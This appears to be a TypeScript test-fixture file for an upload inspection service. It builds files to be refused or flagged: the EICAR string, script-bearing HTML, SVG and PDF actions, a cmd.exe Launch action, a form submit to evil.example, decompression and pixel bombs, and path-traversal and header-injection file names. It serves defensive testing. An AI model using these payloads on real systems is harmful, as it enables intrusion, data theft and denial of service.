import { PDFDocument } from '@cantoo/pdf-lib';
import { randomBytes } from 'node:crypto';
import sharp, { type Sharp } from 'sharp';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import type { FindingCode, Unfit } from '../../src/documents/inspection.rules.js';
import { jpeg, pdf } from './paper.data.js';
import { onePage, packed, rawPdf } from './raw-pdf.data.js';

/** A file as somebody might send it who means no good, or whose program meant well. */
export interface HostileFile {
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  filename?: string;
  /** As the sender claims. */
  type?: string;
}

/** Not taken: by its type and its ends while it comes in (`file.*`), or by what is in it (`document.*`). */
export interface RefusedFile extends HostileFile {
  code: `file.${string}` | `document.${Unfit}`;
}

/** Taken, given back byte for byte, and what an officer is told of it. */
export interface KeptFile extends HostileFile {
  found: FindingCode[];
}

/** The test file of virus scanners, in two parts so that no scanner minds this source. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

const html = '<!doctype html><html><script>alert(document.cookie)</script></html>';

/** A ZIP of one packed file. */
export function zip(name: string, bytes: Buffer): Buffer {
  const data = deflateRawSync(bytes);
  const head = Buffer.alloc(26);
  head.writeUInt16LE(20, 0);
  head.writeUInt16LE(8, 4);
  head.writeUInt32LE(crc32(bytes), 10);
  head.writeUInt32LE(data.length, 14);
  head.writeUInt32LE(bytes.length, 18);
  head.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), head, Buffer.from(name), data]);
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), head, Buffer.alloc(14), Buffer.from(name)]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, central, Buffer.from('PK\x05\x06'), end]);
}

/** A PNG of which only the size in its header is true. */
function png(width: number, height: number, pixels: Buffer, kinds: [name: string, data: Buffer][] = []): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width, 0);
  size.writeUInt32BE(height, 4);
  size.set([1, 0], 8);
  const chunks: [string, Buffer][] = [['IHDR', size], ...kinds, ['IDAT', pixels], ['IEND', Buffer.alloc(0)]];
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    ...chunks.map(([name, data]) => {
      const body = Buffer.concat([Buffer.from(name), data]);
      const ends = Buffer.alloc(8);
      ends.writeUInt32BE(data.length, 0);
      ends.writeUInt32BE(crc32(body), 4);
      return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
    }),
  ]);
}

/** The header of a JPEG says another size than its pixels have. */
function lyingJpeg(width: number, height: number): Buffer {
  const bytes = jpeg(3_000);
  const frame = bytes.findIndex((byte, at) => byte === 0xff && bytes[at + 1] === 0xc2 && bytes[at + 3] === 17);
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

async function locked(security: { userPassword?: string; ownerPassword: string }): Promise<Buffer> {
  const document = await PDFDocument.load(pdf());
  document.encrypt(security);
  return Buffer.from(await document.save());
}

/** A photo of a printed page, sharp enough for any reader. */
export function photo(width = 1_600, height = 1_200) {
  const lines = Array.from({ length: 14 }, (_, row) =>
    Array.from(
      { length: 60 },
      (_letter, n) => `<rect x="${80 + n * 24}" y="${100 + row * 70}" width="${4 + ((n * 7) % 13)}" height="26"/>`,
    ).join(''),
  );
  const page = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1600 1200" width="${width}" height="${height}">
    <rect width="1600" height="1200" fill="#f4f1e8"/><g fill="#222">${lines.join('')}</g></svg>`;
  return sharp(Buffer.from(page));
}

const action = (text: string) => onePage('/OpenAction 4 0 R', [text]);
const truncated = (bytes: Buffer, end: string | Buffer) =>
  Buffer.concat([bytes.subarray(0, Math.floor(bytes.length / 2)), Buffer.from(end as string)]);

export const refusedFiles: RefusedFile[] = [
  { name: 'nothing', bytes: () => Buffer.alloc(0), code: 'file.empty' },
  { name: 'one byte', bytes: () => Buffer.from('%'), code: 'file.wrong_type' },
  { name: 'HTML called .pdf', bytes: () => Buffer.from(html), code: 'file.wrong_type' },
  { name: 'HTML before a PDF', bytes: () => Buffer.concat([Buffer.from(html), pdf()]), code: 'file.wrong_type' },
  {
    name: 'SVG with a script',
    bytes: () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    type: 'image/svg+xml',
    code: 'file.wrong_type',
  },
  { name: 'a program', bytes: () => Buffer.concat([Buffer.from('MZ'), randomBytes(500)]), code: 'file.wrong_type' },
  { name: 'EICAR bare', bytes: () => Buffer.from(EICAR), filename: 'eicar.com', code: 'file.wrong_type' },
  { name: 'EICAR in a ZIP', bytes: () => zip('eicar.com', Buffer.from(EICAR)), code: 'file.wrong_type' },
  { name: 'a Word file', bytes: () => zip('word/document.xml', Buffer.from('<w/>')), code: 'file.office' },
  {
    name: 'an old Word file',
    bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]),
    code: 'file.office',
  },
  {
    name: 'an iPhone’s HEIC called .jpg',
    bytes: () => Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), randomBytes(500)]),
    type: 'image/jpeg',
    code: 'file.heic',
  },
  { name: 'TIFF', bytes: () => photo(200, 150).tiff().toBuffer(), code: 'file.other_picture' },
  { name: 'WebP', bytes: () => photo(200, 150).webp().toBuffer(), code: 'file.other_picture' },
  { name: 'an animated GIF', bytes: () => photo(200, 150).gif().toBuffer(), code: 'file.other_picture' },
  {
    name: 'an animated PNG',
    bytes: () => png(8, 8, deflateSync(Buffer.alloc(16)), [['acTL', Buffer.from('0000000100000000', 'hex')]]),
    code: 'file.other_picture',
  },
  { name: 'half a PDF', bytes: () => truncated(pdf(), ''), code: 'file.cut_off' },
  {
    name: 'the beginning of a PDF that says it ends',
    bytes: () => truncated(rawPdf([]), '%%EOF'),
    code: 'document.damaged',
  },
  {
    name: 'a PDF with a password',
    bytes: () => locked({ userPassword: 'x', ownerPassword: 'y' }),
    code: 'document.encrypted',
  },
  {
    name: 'a PDF without a page',
    bytes: () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
    code: 'document.no_pages',
  },
  {
    name: 'a page tree that is a circle',
    bytes: () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 9>>']),
    code: 'document.no_pages',
  },
  {
    name: 'a page tree that leads nowhere',
    bytes: () => rawPdf(['<</Type/Catalog/Pages 9 0 R>>']),
    code: 'document.damaged',
  },
  {
    name: 'a page that unfolds to 100 MB',
    bytes: () => onePage('', [packed(Buffer.alloc(100 << 20))], '/Contents 4 0 R'),
    code: 'document.unreadable',
  },
  {
    name: 'a list of objects that unfolds to 800 MB',
    bytes: () => {
      const part = deflateRawSync(Buffer.alloc(16 << 20, ' '), { finishFlush: 2 });
      const bytes = Buffer.concat([Buffer.from('789c', 'hex'), ...Array.from({ length: 50 }, () => part)]);
      return onePage('', [{ dict: '/Type/ObjStm/N 1/First 838860000/Filter/FlateDecode', bytes }]);
    },
    code: 'document.unreadable',
  },
  {
    name: 'a picture in a PDF of 4 thousand million pixels',
    bytes: () => onePage('', [{ dict: '/Subtype/Image/Width 65000/Height 65000/Filter/DCTDecode', bytes: jpeg() }]),
    code: 'document.unreadable',
  },
  {
    name: 'a PNG of 3,600 million pixels',
    bytes: () => png(60_000, 60_000, deflateSync(Buffer.alloc(1_000))),
    code: 'document.too_many_pixels',
  },
  { name: 'a JPEG of 4,290 million pixels', bytes: () => lyingJpeg(65_500, 65_500), code: 'document.too_many_pixels' },
  {
    name: 'a PNG whose pixels are missing',
    bytes: () => png(3_000, 2_000, Buffer.from('789c', 'hex')),
    code: 'document.damaged',
  },
  {
    name: 'noise between the marks of a JPEG',
    bytes: () =>
      Buffer.concat([
        Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
        randomBytes(5_000).map((byte) => byte & 0x7f),
        Buffer.from('ffd9', 'hex'),
      ]),
    code: 'document.damaged',
  },
];

export const keptFiles: KeptFile[] = [
  { name: 'a PDF', bytes: () => pdf(), found: [] },
  { name: 'a PDF that its owner locked', bytes: () => locked({ ownerPassword: 'y' }), found: ['owner_locked'] },
  {
    name: 'a table of objects that is a circle',
    bytes: () =>
      rawPdf(
        ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R 2 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R>>'],
        { prev: 'self' },
      ),
    found: [],
  },
  {
    name: 'a page tree with a branch missing',
    bytes: () =>
      rawPdf([
        '<</Type/Catalog/Pages 2 0 R>>',
        '<</Type/Pages/Kids[3 0 R 8 0 R]/Count 2>>',
        '<</Type/Page/Parent 2 0 R>>',
      ]),
    found: ['missing_pages'],
  },
  { name: 'lists nested 200,000 deep', bytes: () => onePage('', ['['.repeat(200_000)]), found: [] },
  { name: 'a PDF with a script', bytes: () => action('<</S/JavaScript/JS(app.alert\\(1\\))>>'), found: ['script'] },
  {
    name: 'a script whose name is disguised',
    bytes: () => action('<</S/J#61vaScript/J#53(app.alert\\(1\\))>>'),
    found: ['script'],
  },
  {
    name: 'a script hidden behind an object of the same number',
    bytes: () => Buffer.concat([action('<</S/JavaScript/JS(1)>>'), Buffer.from('4 0 obj\n<<>>\nendobj\n%%EOF\n')]),
    found: ['script'],
  },
  { name: 'a PDF that starts a program', bytes: () => action('<</S/Launch/F(cmd.exe)>>'), found: ['launch'] },
  {
    name: 'a PDF with a program inside',
    bytes: () =>
      onePage('/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>', [
        '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
        packed(Buffer.from('MZ...'), '/Type/EmbeddedFile'),
      ]),
    found: ['embedded_files'],
  },
  {
    name: 'a PDF with a form of Adobe’s',
    bytes: () => onePage('/AcroForm<</XFA 4 0 R/Fields[]>>', [packed(Buffer.from('<xdp/>'))]),
    found: ['xfa'],
  },
  {
    name: 'a PDF with a film',
    bytes: () =>
      onePage('', ['<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>'], '/Annots[4 0 R]'),
    found: ['media'],
  },
  {
    name: 'a PDF that sends what is typed',
    bytes: () => action('<</S/SubmitForm/F(http://evil.example/)>>'),
    found: ['submits'],
  },
  {
    name: 'a PDF with a link',
    bytes: () =>
      onePage(
        '',
        ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://evil.example/)>>>>'],
        '/Annots[4 0 R]',
      ),
    found: ['links'],
  },
  {
    name: 'a PDF that is also a ZIP',
    bytes: () => Buffer.concat([pdf(), zip('a.exe', Buffer.from('MZ'))]),
    found: ['disguised'],
  },
  {
    name: 'a JPEG that is also a page',
    bytes: () => Buffer.concat([jpeg(500), Buffer.from(html), Buffer.from('ffd9', 'hex')]),
    filename: 'x.html',
    type: 'text/html',
    found: ['disguised', 'small', 'blank'],
  },
  {
    name: 'a JPEG that is also a JAR',
    bytes: async () =>
      Buffer.concat([await photo().jpeg().toBuffer(), zip('Main.class', Buffer.from('cafebabe', 'hex'))]),
    filename: 'x.jar',
    found: ['disguised'],
  },
  {
    name: 'a JPEG called .exe',
    bytes: () => photo().jpeg().toBuffer(),
    filename: 'x.exe',
    type: 'application/pdf',
    found: [],
  },
  { name: 'a JPEG for printers (CMYK)', bytes: () => photo().toColourspace('cmyk').jpeg().toBuffer(), found: [] },
  { name: 'a PNG of 16 bits a channel', bytes: () => photo().toColourspace('rgb16').png().toBuffer(), found: [] },
  {
    name: 'a photo lying on its side, with the place where it was taken',
    bytes: () => withPlace(photo()).jpeg().toBuffer(),
    found: [],
  },
  {
    name: 'a PNG of 100 million equal pixels',
    bytes: () => png(10_000, 10_000, deflateSync(Buffer.alloc(1_251 * 10_000))),
    found: ['blank'],
  },
  { name: 'a small photo', bytes: () => photo(400, 300).jpeg().toBuffer(), found: ['small'] },
  { name: 'a photo without light', bytes: () => photo().linear(0.25, 0).jpeg().toBuffer(), found: ['dark'] },
  { name: 'a photo out of focus', bytes: () => photo().blur(9).jpeg().toBuffer(), found: ['blurred'] },
  { name: 'pale ink', bytes: () => photo().linear(0.1, 225).jpeg().toBuffer(), found: ['faint'] },
];

/** Turned by a quarter, and in Lagos. */
export function withPlace(picture: Sharp): Sharp {
  return picture
    .withExif({
      IFD0: { Make: 'Canary' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '6/1 27/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '3/1 23/1 0/1' },
    })
    .withMetadata({ orientation: 6 });
}

/** Names that would be somewhere else, someone else, or nothing; and how they are kept. */
export const names: [sent: string, kept: string | RegExp][] = [
  ['../../../etc/passwd', 'passwd'],
  ['..\\..\\boot.ini', 'boot.ini'],
  ['/etc/cron.d/x.pdf', 'x.pdf'],
  ['invoice\u202efdp.exe', 'invoicefdp.exe'],
  ['\u2066scan\u2069\u200b.pdf', 'scan.pdf'],
  ['a\r\nSet-Cookie: x=1.pdf', 'aSet-Cookie_ x=1.pdf'],
  ['<script>alert(1)</script>.pdf', /^[^<>]+\.pdf$/],
  [`${'я'.repeat(5_000)}.pdf`, /^я+….*\.pdf$/],
  ['...', /^file\.pdf$/],
  ['con.pdf', 'con.pdf'],
];
